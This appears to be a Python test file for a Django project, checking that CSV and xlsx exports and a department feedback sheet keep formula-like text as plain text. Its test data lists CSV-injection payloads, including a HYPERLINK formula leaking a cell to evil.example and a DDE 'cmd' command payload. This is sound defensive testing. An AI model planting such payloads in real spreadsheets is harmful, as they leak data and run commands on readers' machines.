"""Spreadsheets quote what people typed and never run it: text that starts like a formula stays text in every
export (CSV with a leading apostrophe, xlsx as a string cell) — list exports and a department's feedback sheet."""

import csv
import io

import pytest
from django.conf import settings
from openpyxl import load_workbook

from guardline.core.spreadsheets import csv_text
from guardline.reports.services import table_export

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
]


def test_csv_cells_that_start_like_a_formula_get_an_apostrophe_and_nothing_else_changes():
    assert [csv_text(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [csv_text(v) for v in ("张三", "52052600421200001", "", 12.5, -3, None)] == [
        "张三", "52052600421200001", "", 12.5, -3, None,
    ]  # fmt: skip


def test_list_export_keeps_hostile_text_as_text_in_csv_and_xlsx():
    rows = [[text, 1.5] for text in HOSTILE]
    content, _ = table_export(["原因", "分值"], rows, "csv")
    read = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert [r[0] for r in read[1:]] == ["'" + v for v in HOSTILE]
    assert [r[1] for r in read[1:]] == ["1.5"] * len(HOSTILE)
    content, _ = table_export(["原因", "分值"], rows, "xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == HOSTILE  # the text as typed, for the reader to see
    assert {c.data_type for c in cells} == {"s"}  # strings, not formulas ("f")


@pytest.mark.django_db
def test_department_feedback_sheet_quotes_a_hostile_name_as_text(tmp_path):
    from guardline.ingest.feed_services import feed_feedback_xlsx
    from guardline.ingest.models import FeedEvent
    from guardline.ingest.services import import_file
    from simulate import simulate_county

    out = tmp_path / "county"
    simulate_county(
        households=60, seed=11, out_dir=out, divisions_dir=settings.GUARDLINE["DIVISIONS_DIR"], outsiders=True
    )
    import_file("registry", out / "registry.csv")
    with open(out / "truth" / "person_links.csv", encoding="utf-8") as fh:
        outsider_rows = {
            int(r["file_row"])
            for r in csv.DictReader(fh)
            if r["feed_key"] == "medical_settlement" and r["in_registry"] == "0"
        }
    path = out / "feeds" / "medical_settlement.csv"
    with open(path, encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    row = min(outsider_rows)
    rows[row - 1][1] = HOSTILE[0]  # 姓名 of a person the registry does not know: reported back as unlinked
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    batch = import_file("medical_settlement", path)
    assert FeedEvent.objects.filter(batch=batch, source_row=row, link_status="unlinked").exists()
    sheet = load_workbook(io.BytesIO(feed_feedback_xlsx(batch)))["未能关联"]
    names = [r[2] for r in sheet.iter_rows(min_row=2) if r[2].value == HOSTILE[0]]
    assert names and all(c.data_type == "s" for c in names)
